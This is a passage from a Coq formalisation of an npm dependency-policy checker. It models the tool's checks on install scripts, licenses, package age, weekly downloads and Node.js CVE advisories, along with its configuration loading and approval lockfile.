              try_catch (writeRegistryCacheFile packageName (StoredKeys requiredData))
                (λ _, mret tt)
            else mret tt);;
           mret requiredData
       end end end end) w
  end.

(** ** The policy checks on one package *)

(** The [minPackageAge] test and its warning; [time] is
    [json.time[version]], [label] the [package] field of the warning. *)
Definition ageProblem (minAge : Z) (label version : string) (time : option string)
    : list Warning :=
  match time with
  | Some time =>
      match getTime time with
      | Some published =>
          if (now env - minAge <? published)%Z then
            let elapsed := (now env - published)%Z in
            let ts :=
              if (86400000 <? elapsed)%Z                    (* daysAgo > 1 *)
              then pretty (elapsed / 86400000)%Z +:+ " days ago"
              else pretty (elapsed / 3600000)%Z +:+ " hours ago" in
            [ {| w_package := label;
                 w_message := "is violating the package minAge policy. Last published "
                                +:+ ts +:+ " (" +:+ time +:+ ")";
                 w_type := minPackageAge;
                 w_cacheKey := version |} ]
          else []
      | None => []                  (* Invalid Date: the comparison is false *)
      end
  | None => []                      (* new Date(undefined) is an Invalid Date *)
  end.

(** [for (const script of Object.keys(scripts)) if (scriptList.includes(script)) ...] *)
Definition scriptProblems (label : string) (scripts : list (string * string))
    : list Warning :=
  omap (λ '(key, value),
          if scriptList_includes key then
            Some {| w_package := label;
                    w_message := "will run script " +:+ dquote +:+ key +:+ dquote
                                   +:+ ": " +:+ dquote +:+ value +:+ dquote;
                    w_type := script;
                    w_cacheKey := key +:+ ": " +:+ value |}
          else None)
       scripts.

(** The block under [if (config.licenses?.length)]. *)
Definition licenseProblems (config : Config) (label : string) (found : option string)
    : list Warning :=
  match c_licenses config with
  | [] => []
  | _ :: _ =>
      match found with
      | Some l =>
          if truthy l then
            if bool_decide (l ∈ c_licenses config) then []
            else [ {| w_package := label;
                      w_message := "has license " +:+ l +:+ " which is not in the whitelist";
                      w_type := license;
                      w_cacheKey := l |} ]
          else [ {| w_package := label;
                    w_message := "has no license field in package.json";
                    w_type := license;
                    w_cacheKey := "no license" |} ]
      | None =>
          [ {| w_package := label;
               w_message := "has no license field in package.json";
               w_type := license;
               w_cacheKey := "no license" |} ]
      end
  end.

(** The body of the [try] in [checkPackage] ([src/lib/index.ts]) once
    [cacheRegistry] has returned [json].  Reading
    [json.versions[packageVersion].scripts] throws when the version is
    missing; the [catch] then returns the problems pushed so far. *)
Definition packageProblems (config : Config) (packageName packageVersion : string)
    (json : RegistryCacheRecord) : list Warning :=
  let packageNameVersion := packageName +:+ "@" +:+ packageVersion in
  let problems :=
    match c_minPackageAge config with
    | Some minAge =>
        if (minAge =? 0)%Z then []
        else ageProblem minAge packageNameVersion packageVersion
               (rc_time json !! packageVersion)
    | None => []
    end in
  match rc_versions json !! packageVersion with
  | None => problems
  | Some meta =>
      problems
        ++ scriptProblems packageNameVersion (default [] (vm_scripts meta))
        ++ licenseProblems config packageNameVersion (vm_license meta)
  end.

(** [src/lib/index.ts] *)
Definition checkPackage (config : Config) (packageName packageVersion : string)
    : M (list Warning) :=
  try_catch
    (json ← cacheRegistry packageName packageVersion;
     mret (packageProblems config packageName packageVersion json))
    (λ _, mret []).

(** [src/unnamed/part_002]: the installed [package.json] of [dep].  A
    missing file (ENOENT) gives no warnings, any other failure is thrown
    again; without [scripts] the function returns before the license
    test. *)
Definition processLocalPackageJson (config : Config) (dep : Dependency)
    : M (list Warning) :=
  let name := d_name dep +:+ "@" +:+ d_version dep in
  match nodeModules env !! d_path dep with
  | None => mret []
  | Some BadManifest => throw "Unexpected token in JSON"
  | Some (Manifest None _) => mret []
  | Some (Manifest (Some scripts) found) =>
      mret (scriptProblems name scripts ++ licenseProblems config name found)
  end.

(** [src/unnamed/part_002] *)
Definition checkPackageAge (minAge : Z) (packageName version : string)
    : M (option Warning) :=
  try_catch
    (json ← cacheRegistryKeys packageName version;
     mret (head (ageProblem minAge packageName version (rk_time json !! version))))
    (λ _, mret None).

(** ** [processRepo] *)

Definition readWarningsFromLockfile : M (list Approval) := λ w,
  match packagePolicyLock w with
  | None => (Ok [], w)                                  (* !existsSync(lockfile) *)
  | Some BadPolicyLock => (Throw "YAMLParseError", w)   (* readFile or yaml.parse throws *)
  | Some (PolicyLockYaml data) =>
      if (pl_version data =? 1)%Z then (Ok (pl_packages data), w)
      else (Ok [], w)
  end.

Definition pushWarnings (ws : list Warning) (st : Collected) : Collected :=
  {| warnings := warnings st ++ ws;
     packageDownloadCache := packageDownloadCache st;
     checkedPackageDownloads := checkedPackageDownloads st |}.

Section callback.
Variable irev : IndexRevision.
Variable drev : DownloadsRevision.
Variable config : Config.

(** [packageDownloadCache[dep.name] || (await checkPackageDownloads(dep.name))]:
    the request is made when the property reads as [undefined] or [0]. *)
Definition lookupDownloads (packageName : string) (st : Collected) : M Downloads :=
  match getProperty (packageDownloadCache st) packageName with
  | Some (Count cached) =>
      if (cached =? 0)%Z then
        downloads ← checkPackageDownloads drev packageName; mret (Count downloads)
      else mret (Count cached)
  | Some (NotACount v) => mret (NotACount v)
  | None => downloads ← checkPackageDownloads drev packageName; mret (Count downloads)
  end.

(** [downloads !== -1] *)
Definition notSentinel (downloads : Downloads) : bool :=
  match downloads with
  | Count n => negb (n =? -1)%Z
  | NotACount _ => true
  end.

(** [downloads < config.minWeeklyDownloads] *)
Definition lessThan (downloads : Downloads) (threshold : Z) : bool :=
  match downloads with
  | Count n => (n <? threshold)%Z
  | NotACount {| toNumber := Some n |} => (n <? threshold)%Z
  | NotACount {| toNumber := None |} => false
  end.

(** [`${downloads}`] *)
Definition shown (downloads : Downloads) : string :=
  match downloads with
  | Count n => pretty n
  | NotACount v => toText v
  end.

(** What follows the lookup, for the threshold [minWeeklyDownloads]:
    [checkedPackageDownloads.add], the update of the cache, which throws on
    an array that is given an invalid [length], and the warning. *)
Definition recordDownloads (threshold : Z) (packageName : string)
    (downloads : Downloads) (st : Collected) : Result Collected :=
  let checked := {[ packageName ]} ∪ checkedPackageDownloads st in
  let cache :=
    if notSentinel downloads
    then setProperty (packageDownloadCache st) packageName downloads
    else Some (packageDownloadCache st) in
  match cache with
  | None => Throw "RangeError"
  | Some cache =>
      let ws :=
        if notSentinel downloads && lessThan downloads threshold then
          warnings st ++
            [ {| w_package := packageName;
                 w_message := "had " +:+ shown downloads +:+ " downloads last week";
                 w_type := minWeeklyDownloads;
                 w_cacheKey := downloadsCacheKey irev threshold |} ]
        else warnings st in
      Ok {| warnings := ws;
            packageDownloadCache := cache;
            checkedPackageDownloads := checked |}
  end.

(** [if (enableDownloadCheck && !checkedPackageDownloads.has(dep.name)) { ... }] *)
Definition downloadCheck (dep : Dependency) (st : Collected) : M Collected :=
  match enableDownloadCheck config with
  | Some threshold =>
      if bool_decide (d_name dep ∈ checkedPackageDownloads st) then mret st
      else
        downloads ← lookupDownloads (d_name dep) st;
        liftResult (recordDownloads threshold (d_name dep) downloads st)
  | None => mret st
  end.

(** The callback of [slice.map(async (dep) => ...)]. *)
Definition checkDependency (dep : Dependency) (st : Collected) : M Collected :=
  match irev with
  | lib_index_ts =>
      p ← checkPackage config (d_name dep) (d_version dep);
      downloadCheck dep (pushWarnings p st)
  | unnamed_part_002 =>
      jsonWarnings ← processLocalPackageJson config dep;
      let st := pushWarnings jsonWarnings st in
      st ← match c_minPackageAge config with
           | Some minAge =>
               if (0 <? minAge)%Z then
                 ageWarning ← checkPackageAge minAge (d_name dep) (d_version dep);
                 match ageWarning with
                 | Some found => mret (pushWarnings [found] st)
                 | None => mret st
                 end
               else mret st
           | None => mret st
           end;
      downloadCheck dep st
  end.

Definition batchSize : nat := 32.

(** [for (let i = 0; i < deps.length; i += batchSize)]: the values [i]
    takes from [i] on, while [i < len]; [fuel] bounds their number. *)
Fixpoint batchStartsFrom (fuel i len : nat) : list nat :=
  match fuel with
  | O => []
  | S fuel' =>
      if i <? len then i :: batchStartsFrom fuel' (i + batchSize) len else []
  end.

(** The loop runs at most [deps.length] times. *)
Definition batchStarts (deps : list Dependency) : list nat :=
  batchStartsFrom (length deps) 0 (length deps).

(** [deps.slice(i, i + batchSize)] *)
Definition slice (i : nat) (deps : list Dependency) : list Dependency :=
  take batchSize (drop i deps).

Definition checkAll (deps : list Dependency) (st : Collected) : M Collected :=
  forM (λ i st, forM checkDependency (slice i deps) st) (batchStarts deps) st.

(** [const result = await read({ prompt, default: 'y' })]: [read]
    resolves to the line entered, or to the default when the line is empty;
    it rejects when the input fails or the prompt is cancelled ([answer] is
    [None]).  An input that ends without a line, on which the promise stays
    pending, is left out. *)
Definition read : M string := λ w,
  match answer env (prompts w) with
  | Some line => (Ok (if truthy line then line else "y"), countPrompt w)
  | None => (Throw "canceled", countPrompt w)
  end.

(** [await fs.writeFile(lockfile, yaml.stringify({ version: 1, packages: cacheData }), 'utf8')] *)
Definition writePolicyLock (cacheData : list Approval) : M unit := λ w,
  if policyLockWritable env
  then (Ok tt, setPackagePolicyLock {| pl_version := 1; pl_packages := cacheData |} w)
  else (Throw "EACCES", w).

(** The end of [processRepo], from [if (detectedUncheckedProblems === 0)]. *)
Definition approveOrFail (cacheData : list Approval) (detectedUncheckedProblems : nat)
    : M unit :=
  if (detectedUncheckedProblems =? 0) then mret tt
  else if opt_ci env then exit 1%Z
  else
    result ← read;
    if String.eqb result "y" then writePolicyLock cacheData
    else exit 1%Z.

(** [processRepo] up to the end of the loop: the prior record is read, the
    lockfile extracted and every dependency checked.  [config] is what
    [getConfig] returned. *)
Definition collectWarnings (dir : RepoDir) : M (list Approval * Collected) :=
  cacheData ← readWarningsFromLockfile;
  deps ← liftResult (readInstalledPackagesFromLockfile satisfies basename irev config dir);
  cache ← (if opt_cache env then getPackageDownloadCache else mret emptyArray);
  st ← checkAll deps {| warnings := [];
                        packageDownloadCache := cache;
                        checkedPackageDownloads := ∅ |};
  mret (cacheData, st).

(** [if (cache && enableDownloadCheck) await savePackageDownloadCache(...)];
    under [cache] the object is the one [getPackageDownloadCache]
    returned. *)
Definition saveCounts (st : Collected) : M unit :=
  if opt_cache env && bool_decide (is_Some (enableDownloadCheck config))
  then savePackageDownloadCache (own (packageDownloadCache st))
  else mret tt.

(** [processRepo] up to the filtered warnings: after the loop the record is
    rebuilt, the warnings are filtered and the popularity cache is
    saved. *)
Definition collectAndReconcile (dir : RepoDir) : M Reconciled :=
  collected ← collectWarnings dir;
  let reconciled := reconcile collected.1 (warnings collected.2) in
  saveCounts collected.2;;
  mret reconciled.

Definition processRepo (dir : RepoDir) : M unit :=
  reconciled ← collectAndReconcile dir;
  approveOrFail (r_cacheData reconciled) (length (r_warnings reconciled)).
End callback.
End run.

(** [cache[packageName]] is falsy: it is [undefined], or the number [0]. *)
Definition falsyCount (env : Env) (cache : JsObject) (packageName : string) : Prop :=
  getProperty env cache packageName = None
  ∨ getProperty env cache packageName = Some (Count 0%Z).

Global Instance falsyCount_dec env cache packageName :
  Decision (falsyCount env cache packageName).
Proof. unfold falsyCount. apply _. Defined.

(** The requests a computation makes are all of the kind [P]. *)
Definition asksOnly {A : Type} (P : string → Prop) (m : M A) : Prop :=
  ∀ w r w', m w = (r, w') →
    ∃ more, fetched w' = fetched w ++ more ∧ Forall P more.

Definition isRegistryUrl (url : string) : Prop :=
  ∃ packageName, url = registryUrl packageName.

(** What the loop of [processRepo] may request, given the popularity cache
    [cache0] it started with: registry documents, and the downloads of names
    at which [cache0] reads as falsy. *)
Definition allowedRequest (env : Env) (cache0 : JsObject) (url : string) : Prop :=
  isRegistryUrl url
  ∨ ∃ packageName, url = downloadsUrl packageName ∧ falsyCount env cache0 packageName.

(** The state of the loop after the dependencies [done], started in the
    world [w0] with the popularity cache [cache0], an object and not an
    array: [more] is what has been requested since. *)
Definition loopInvariant (env : Env) (cache0 : JsObject) (w0 : World)
    (done : list Dependency) (st : Collected) (w : World) : Prop :=
  ∃ more,
    fetched w = fetched w0 ++ more
    ∧ Forall (allowedRequest env cache0) more
    ∧ kind (packageDownloadCache st) = PlainObject
    ∧ (∀ n, n ∉ checkedPackageDownloads st →
         own (packageDownloadCache st) !! n = own cache0 !! n)
    ∧ (∀ n, n ∈ checkedPackageDownloads st → falsyCount env cache0 n →
         downloadsUrl n ∈ more)
    ∧ (∀ d, d ∈ done → d_name d ∈ checkedPackageDownloads st).

(** A computation that neither writes the approval record nor prompts. *)
Definition quiet {A : Type} (m : M A) : Prop :=
  ∀ w r w', m w = (r, w') →
    packagePolicyLock w' = packagePolicyLock w ∧ prompts w' = prompts w.

(** The warning [processRepo] pushes for a package with too few downloads. *)
Definition lowDownloadsWarning (irev : IndexRevision) (threshold : Z)
    (packageName : string) (downloads : Downloads) : Warning :=
  {| w_package := packageName;
     w_message := "had " +:+ shown downloads +:+ " downloads last week";
     w_type := minWeeklyDownloads;
     w_cacheKey := downloadsCacheKey irev threshold |}.

(** A warning that, if its type is [minWeeklyDownloads], has the key of the
    configured threshold. *)
Definition thresholdKeyed (irev : IndexRevision) (config : Config) (problem : Warning)
    : Prop :=
  w_type problem = minWeeklyDownloads →
  ∃ threshold,
    c_minWeeklyDownloads config = Some threshold
    ∧ (0 < threshold)%Z
    ∧ w_cacheKey problem = downloadsCacheKey irev threshold.


(** ** Vocabulary of the properties of whole runs *)

(** [s.includes(sub)] *)
Fixpoint includes (sub s : string) : bool :=
  String.prefix sub s
  || match s with
     | String _ s' => includes sub s'
     | EmptyString => false
     end.

(** Every run of [m] takes the world to one that [R] relates to it, and
    does not end the process. *)
Definition stays {A : Type} (R : World → World → Prop) (m : M A) : Prop :=
  ∀ w r w', m w = (r, w') → R w w' ∧ ∀ code, r ≠ Exit code.

(** The files below [cacheDir]. *)
Definition cacheFiles (w : World) : gmap string CacheFile * option DownloadsFile :=
  (registryCacheFiles w, packageDownloadsJson w).

Definition sameCacheFiles (w w' : World) : Prop := cacheFiles w' = cacheFiles w.

(** The world changes by requests about packages of [names] only, to the
    registry or to the downloads API; the files may change. *)
Definition asksAbout (names : string → Prop) (w w' : World) : Prop :=
  ∃ more,
    fetched w' = fetched w ++ more
    ∧ Forall (λ url, ∃ n, names n ∧ (url = registryUrl n ∨ url = downloadsUrl n)) more.

(** Any two worlds. *)
Definition anyWorld (w w' : World) : Prop := True.

(** The registry cache holds a record that serves [dep]: the record of
    [src/lib/index.ts], or the one of [part_002]. *)
Definition registryServes (irev : IndexRevision) (w : World) (dep : Dependency) : Prop :=
  match irev with
  | lib_index_ts => ∃ cache, servesVersion w (d_name dep) (d_version dep) cache
  | unnamed_part_002 => ∃ cache, servesVersionKeys w (d_name dep) (d_version dep) cache
  end.

(** [problem] is a warning the checks can raise for [dep] under [config]:
    it names [dep], and its policy is switched on. *)
Definition raisedFor (irev : IndexRevision) (config : Config) (dep : Dependency)
    (problem : Warning) : Prop :=
  match w_type problem with
  | script =>
      w_package problem = nameAtVersion dep
      ∧ ∃ key value,
          key ∈ scriptList ∧ w_cacheKey problem = key +:+ ": " +:+ value
  | license =>
      w_package problem = nameAtVersion dep
      ∧ c_licenses config ≠ []
      ∧ (w_cacheKey problem = "no license" ∨ w_cacheKey problem ∉ c_licenses config)
  | minPackageAge =>
      w_cacheKey problem = d_version dep
      ∧ ∃ minAge,
          c_minPackageAge config = Some minAge
          ∧ match irev with
            | lib_index_ts => w_package problem = nameAtVersion dep ∧ minAge ≠ 0%Z
            | unnamed_part_002 => w_package problem = d_name dep ∧ (0 < minAge)%Z
            end
  | minWeeklyDownloads =>
      w_package problem = d_name dep
      ∧ ∃ threshold,
          c_minWeeklyDownloads config = Some threshold
          ∧ (0 < threshold)%Z
          ∧ w_cacheKey problem = downloadsCacheKey irev threshold
  end.

(** ** [index.ts]: [getConfig] (the same text in both revisions) *)

(** A duration as a configuration gives it: a number of milliseconds, or a
    text for [parseDuration]. *)
Inductive Duration :=
  | Millis (ms : Z)
  | DurationText (text : string).

(** The configuration object while [getConfig] builds it.  A number or a
    flag that is [null] is [None]; a list or a record that is [null] reads
    like an empty one ([config.licenses?.length], [config.blacklist?.[name]])
    and is the empty one here. *)
Record RawConfig := {
  raw_minPackageAge : option Duration;
  raw_minWeeklyDownloads : option Z;
  raw_checkNodeVersion : option bool;
  raw_licenses : list string;
  raw_blacklist : gmap string string;
  raw_ignore : gmap string string;
}.

(** What [yaml.parse] returns for a configuration file, key by key: [None]
    for a key the document does not have. *)
Record ConfigDoc := {
  doc_minPackageAge : option (option Duration);
  doc_minWeeklyDownloads : option (option Z);
  doc_checkNodeVersion : option (option bool);
  doc_licenses : option (list string);
  doc_blacklist : option (gmap string string);
  doc_ignore : option (gmap string string);
}.

(** A configuration file: one that [yaml.parse] rejects, or a document;
    the empty document parses to [null]. *)
Inductive ConfigFile :=
  | BadYaml
  | Yaml (doc : option ConfigDoc).

(** What [getConfig] returns: the policy, and the [checkNodeVersion] key
    that only [main] reads. *)
Record LoadedConfig := {
  policy : Config;
  checkNodeVersionSetting : option bool;
}.

(** [Object.assign(config, doc)] *)
Definition assign (config : RawConfig) (doc : ConfigDoc) : RawConfig :=
  {| raw_minPackageAge := default (raw_minPackageAge config) (doc_minPackageAge doc);
     raw_minWeeklyDownloads :=
       default (raw_minWeeklyDownloads config) (doc_minWeeklyDownloads doc);
     raw_checkNodeVersion :=
       default (raw_checkNodeVersion config) (doc_checkNodeVersion doc);
     raw_licenses := default (raw_licenses config) (doc_licenses doc);
     raw_blacklist := default (raw_blacklist config) (doc_blacklist doc);
     raw_ignore := default (raw_ignore config) (doc_ignore doc) |}.

(** [for (const file of possibleFiles) if (existsSync(file)) { ...; break }]:
    the first file that exists is parsed and assigned; [None] is a file that
    does not exist. *)
Fixpoint assignFirst (config : RawConfig) (possibleFiles : list (option ConfigFile))
    : Result RawConfig :=
  match possibleFiles with
  | [] => Ok config
  | None :: possibleFiles' => assignFirst config possibleFiles'
  | Some BadYaml :: _ => Throw "YAMLParseError"
  | Some (Yaml None) :: _ => Ok config            (* Object.assign(config, null) *)
  | Some (Yaml (Some doc)) :: _ => Ok (assign config doc)
  end.

Section getConfig.
(** [parseDuration] of [parse-duration]; [None] is its [null]. *)
Variable parseDuration : string → option Z.

Definition defaultConfig : RawConfig :=
  {| raw_minPackageAge := Millis <$> parseDuration "2d";
     raw_minWeeklyDownloads := Some 100%Z;
     raw_checkNodeVersion := Some true;
     raw_licenses := [];
     raw_blacklist := ∅;
     raw_ignore := ∅ |}.

(** [if (config.minPackageAge && typeof config.minPackageAge === 'string')
    config.minPackageAge = parseDuration(config.minPackageAge)]; the empty
    text stays, and is falsy wherever the age is read. *)
Definition parsedAge (age : option Duration) : option Z :=
  match age with
  | Some (DurationText text) => if truthy text then parseDuration text else None
  | Some (Millis ms) => Some ms
  | None => None
  end.

Definition loaded (config : RawConfig) : LoadedConfig :=
  {| policy :=
       {| c_minPackageAge := parsedAge (raw_minPackageAge config);
          c_minWeeklyDownloads := raw_minWeeklyDownloads config;
          c_licenses := raw_licenses config;
          c_blacklist := raw_blacklist config;
          c_ignore := raw_ignore config |};
     checkNodeVersionSetting := raw_checkNodeVersion config |}.

(** [getConfig], given what the four [possibleFiles] hold, in their
    order. *)
Definition getConfig (possibleFiles : list (option ConfigFile)) : Result LoadedConfig :=
  match assignFirst defaultConfig possibleFiles with
  | Ok config => Ok (loaded config)
  | Throw err => Throw err
  | Exit code => Exit code
  end.

(** What [yaml.stringify(defaultConfig)] parses back to: every key, with
    its default. *)
Definition defaultDoc : ConfigDoc :=
  {| doc_minPackageAge := Some (raw_minPackageAge defaultConfig);
     doc_minWeeklyDownloads := Some (raw_minWeeklyDownloads defaultConfig);
     doc_checkNodeVersion := Some (raw_checkNodeVersion defaultConfig);
     doc_licenses := Some (raw_licenses defaultConfig);
     doc_blacklist := Some (raw_blacklist defaultConfig);
     doc_ignore := Some (raw_ignore defaultConfig) |}.
End getConfig.

(** ** [node-cve.ts] *)

(** One value of the advisory index of the Node.js security working
    group. *)
Record Advisory := {
  adv_cve : list string;
  adv_vulnerable : string;
  adv_patched : string;
  adv_overview : option string;
}.

(** The outcome of the request for the advisory index: it rejects, or there
    is a response with its [ok] flag and its body ([None] when the body is
    not JSON); the body is the list of [Object.values]. *)
Inductive AdvisoryResponse :=
  | AdvisoryNetworkError
  | AdvisoryHttp (ok : bool) (body : option (list Advisory)).

Inductive CveRevision :=
  | lib_node_cve_ts     (* src/lib/node-cve.ts *)
  | unnamed_part_001.   (* src/unnamed/part_001 *)

Definition advisoriesUrl : string :=
  "https://raw.githubusercontent.com/nodejs/security-wg/refs/heads/main/vuln/core/index.json".

(** The line feed. *)
Definition newline : string := String (Ascii.ascii_of_nat 10) EmptyString.

(** The text [checkNodeVersion] pushes for an advisory. *)
Definition display (advisory : Advisory) : string :=
  let display := String.concat ", " (adv_cve advisory) in
  let display :=
    display +:+ ", affects Node.js " +:+ adv_vulnerable advisory
      +:+ ", pathed in " +:+ adv_patched advisory in
  match adv_overview advisory with
  | Some overview =>
      if truthy overview then display +:+ newline +:+ overview +:+ newline
      else display
  | None => display
  end.

(** ** [index.ts]: [main] (the same text in both revisions) *)

(** [<dir>/package.json] as [main] reads it: [engines.node] of a manifest,
    or a file that is missing or not JSON. *)
Inductive PackageJsonFile :=
  | NoPackageJson
  | BadPackageJson
  | PackageJson (enginesNode : option string).

(** The files of one directory. *)
Record RepoFiles := {
  rf_policyYml : option ConfigFile;                        (* package-policy.yml *)
  rf_policyYaml : option ConfigFile;                       (* package-policy.yaml *)
  rf_packageJson : PackageJsonFile;                        (* package.json *)
  rf_packageLock : option (list (string * PackageSpec));   (* package-lock.json *)
  rf_yarnLock : bool;                                      (* yarn.lock exists *)
  rf_pnpmLock : bool;                                      (* pnpm-lock.yaml exists *)
  rf_policyLock : option PolicyLockFile;                   (* package-policy.lock *)
  rf_nodeModules : gmap string ManifestFile;               (* package.json below node_modules *)
  rf_writable : bool;                                      (* writeFile into the directory succeeds *)
}.

(** A directory without any of these files. *)
Definition noFiles : RepoFiles :=
  {| rf_policyYml := None;
     rf_policyYaml := None;
     rf_packageJson := NoPackageJson;
     rf_packageLock := None;
     rf_yarnLock := false;
     rf_pnpmLock := false;
     rf_policyLock := None;
     rf_nodeModules := ∅;
     rf_writable := true |}.

(** What a process of the tool acts on: the directories (by resolved
    path), the two configuration files of the home directory, the cache
    directory, the requests and prompts made, and the module variable
    [nodeAdvisories]. *)
Record Host := {
  repos : gmap string RepoFiles;
  homeYml : option ConfigFile;          (* ~/.package-policy.yml *)
  homeYaml : option ConfigFile;         (* ~/.package-policy.yaml *)
  cacheRecords : gmap string CacheFile;
  cacheCounts : option DownloadsFile;
  requests : list string;
  asked : nat;
  nodeAdvisories : option (list Advisory);
}.

(** What a process is started with. *)
Record Options := {
  run_env : Env;                  (* its [nodeModules] and [policyLockWritable] are
                                     replaced per directory *)
  opt_checkNodeVersion : bool;    (* program.getOptionValue('checkNodeVersion') *)
  opt_init : bool;                (* program.getOptionValue('init') *)
  versions_node : string;         (* process.versions.node *)
  advisoryFeed : list string → AdvisoryResponse;   (* after the earlier requests *)
}.

Definition HM (A : Type) : Type := Host → Result A * Host.

Global Instance HM_ret : MRet HM := λ A a h, (Ok a, h).

Global Instance HM_bind : MBind HM := λ A B k m h,
  match m h with
  | (Ok a, h') => k a h'
  | (Throw err, h') => (Throw err, h')
  | (Exit code, h') => (Exit code, h')
  end.

(** [process.exit(code)] *)
Definition exitProcess {A : Type} (code : Z) : HM A := λ h, (Exit code, h).

(** A result that does not touch the host. *)
Definition resultOf {A : Type} (r : Result A) : HM A := λ h, (r, h).

(** [for (const x of xs) await body(x)] *)
Fixpoint forEach {A : Type} (body : A → HM unit) (xs : list A) : HM unit :=
  match xs with
  | [] => mret tt
  | x :: xs' => body x ≫= λ _, forEach body xs'
  end.

(** The files of [dir]; a directory that does not exist has none. *)
Definition filesOf (h : Host) (dir : string) : RepoFiles :=
  default noFiles (repos h !! dir).

Definition withPolicyYml (f : ConfigFile) (rf : RepoFiles) : RepoFiles :=
  {| rf_policyYml := Some f;
     rf_policyYaml := rf_policyYaml rf;
     rf_packageJson := rf_packageJson rf;
     rf_packageLock := rf_packageLock rf;
     rf_yarnLock := rf_yarnLock rf;
     rf_pnpmLock := rf_pnpmLock rf;
     rf_policyLock := rf_policyLock rf;
     rf_nodeModules := rf_nodeModules rf;
     rf_writable := rf_writable rf |}.

Definition withPolicyLock (lock : option PolicyLockFile) (rf : RepoFiles) : RepoFiles :=
  {| rf_policyYml := rf_policyYml rf;
     rf_policyYaml := rf_policyYaml rf;
     rf_packageJson := rf_packageJson rf;
     rf_packageLock := rf_packageLock rf;
     rf_yarnLock := rf_yarnLock rf;
     rf_pnpmLock := rf_pnpmLock rf;
     rf_policyLock := lock;
     rf_nodeModules := rf_nodeModules rf;
     rf_writable := rf_writable rf |}.

Definition withRepos (repos' : gmap string RepoFiles) (h : Host) : Host :=
  {| repos := repos';
     homeYml := homeYml h;
     homeYaml := homeYaml h;
     cacheRecords := cacheRecords h;
     cacheCounts := cacheCounts h;
     requests := requests h;
     asked := asked h;
     nodeAdvisories := nodeAdvisories h |}.

(** The host after the request for the advisory index, with what
    [nodeAdvisories] then holds. *)
Definition afterAdvisoryRequest (kept : option (list Advisory)) (h : Host) : Host :=
  {| repos := repos h;
     homeYml := homeYml h;
     homeYaml := homeYaml h;
     cacheRecords := cacheRecords h;
     cacheCounts := cacheCounts h;
     requests := requests h ++ [advisoriesUrl];
     asked := asked h;
     nodeAdvisories := kept |}.

(** The lockfiles of [dir], as [readInstalledPackagesFromLockfile] sees
    them. *)
Definition repoDir (dir : string) (rf : RepoFiles) : RepoDir :=
  {| dir_path := dir;
     packageLockJson := rf_packageLock rf;
     yarnLock := rf_yarnLock rf;
     pnpmLock := rf_pnpmLock rf |}.

(** The part of the host that [processRepo(dir)] acts on, and its return
    to the host. *)
Definition worldOf (h : Host) (dir : string) : World :=
  {| registryCacheFiles := cacheRecords h;
     packageDownloadsJson := cacheCounts h;
     packagePolicyLock := rf_policyLock (filesOf h dir);
     fetched := requests h;
     prompts := asked h |}.

Definition hostOf (dir : string) (w : World) (h : Host) : Host :=
  {| repos := alter (withPolicyLock (packagePolicyLock w)) dir (repos h);
     homeYml := homeYml h;
     homeYaml := homeYaml h;
     cacheRecords := registryCacheFiles w;
     cacheCounts := packageDownloadsJson w;
     requests := fetched w;
     asked := prompts w;
     nodeAdvisories := nodeAdvisories h |}.

Section main.
Variable satisfies : string → string → bool.       (* semver.satisfies, prereleases included *)
Variable intersects : string → string → option bool.
                                     (* semver.intersects; None when it throws, on a
                                        range it cannot parse *)
Variable basename : string → string.
Variable getTime : string → option Z.
Variable parseDuration : string → option Z.
Variable opts : Options.
Variable irev : IndexRevision.
Variable drev : DownloadsRevision.
Variable crev : CveRevision.

(** The options and library state of [processRepo], for one directory. *)
Definition envAt (rf : RepoFiles) : Env :=
  {| opt_cache := opt_cache (run_env opts);
     opt_ci := opt_ci (run_env opts);
     net := net (run_env opts);
     cacheDirWritable := cacheDirWritable (run_env opts);
     policyLockWritable := rf_writable rf;
     nodeModules := rf_nodeModules rf;
     now := now (run_env opts);
     answer := answer (run_env opts);
     inherited := inherited (run_env opts) |}.

(** [node-cve.ts]: the index is requested once and kept in
    [nodeAdvisories]; [fetchJson] throws on a response that is not [ok],
    the [fetch] of [part_001] does not look at [ok]. *)
Definition getNodeAdvisories : HM (list Advisory) := λ h,
  match nodeAdvisories h with
  | Some advisories => (Ok advisories, h)
  | None =>
      match advisoryFeed opts (requests h), crev with
      | AdvisoryHttp true (Some advisories), _
      | AdvisoryHttp false (Some advisories), unnamed_part_001 =>
          (Ok advisories, afterAdvisoryRequest (Some advisories) h)
      | _, _ =>
          (Throw ("Failed to fetch " +:+ advisoriesUrl), afterAdvisoryRequest None h)
      end
  end.

(** [for (const advisory of Object.values(advisories)) { ... }]: both
    ranges of an advisory are compared with [nodeVersion], and the first
    comparison that throws ends the loop. *)
Fixpoint advisoryProblems (nodeVersion : string) (advisories : list Advisory)
    : Result (list string) :=
  match advisories with
  | [] => Ok []
  | advisory :: advisories' =>
      match intersects nodeVersion (adv_vulnerable advisory),
            intersects nodeVersion (adv_patched advisory) with
      | Some isVulnerable, Some isPatched =>
          match advisoryProblems nodeVersion advisories' with
          | Ok problems =>
              Ok (if isVulnerable && negb isPatched
                  then display advisory :: problems else problems)
          | Throw err => Throw err
          | Exit code => Exit code
          end
      | _, _ => Throw "TypeError"
      end
  end.

(** [semver.intersects] returns for both ranges of [advisory]. *)
Definition compared (nodeVersion : string) (advisory : Advisory) : Prop :=
  is_Some (intersects nodeVersion (adv_vulnerable advisory))
  ∧ is_Some (intersects nodeVersion (adv_patched advisory)).

(** [isVulnerable && !isPatched] *)
Definition affects (nodeVersion : string) (advisory : Advisory) : bool :=
  bool_decide (intersects nodeVersion (adv_vulnerable advisory) = Some true
               ∧ intersects nodeVersion (adv_patched advisory) = Some false).

Definition checkNodeVersion (nodeVersion : string) : HM (list string) :=
  advisories ← getNodeAdvisories;
  resultOf (advisoryProblems nodeVersion advisories).

(** [getConfig(dir)] *)
Definition possibleFiles (dir : string) (h : Host) : list (option ConfigFile) :=
  [rf_policyYml (filesOf h dir); rf_policyYaml (filesOf h dir); homeYml h; homeYaml h].

Definition getConfigAt (dir : string) : HM LoadedConfig := λ h,
  (getConfig parseDuration (possibleFiles dir h), h).

(** [processRepo(dir)] after its [getConfig(dir)], on the files of [dir]. *)
Definition processRepoWith (config : LoadedConfig) (dir : string) : HM unit := λ h,
  let run :=
    processRepo satisfies basename getTime (envAt (filesOf h dir)) irev drev
      (policy config) (repoDir dir (filesOf h dir)) (worldOf h dir) in
  (run.1, hostOf dir run.2 h).

(** [processRepo(dir)], which starts with [getConfig(dir)]. *)
Definition processRepoAt (dir : string) : HM unit :=
  config ← getConfigAt dir;
  processRepoWith config dir.

(** The branch [if (program.getOptionValue('init'))] of the loop of
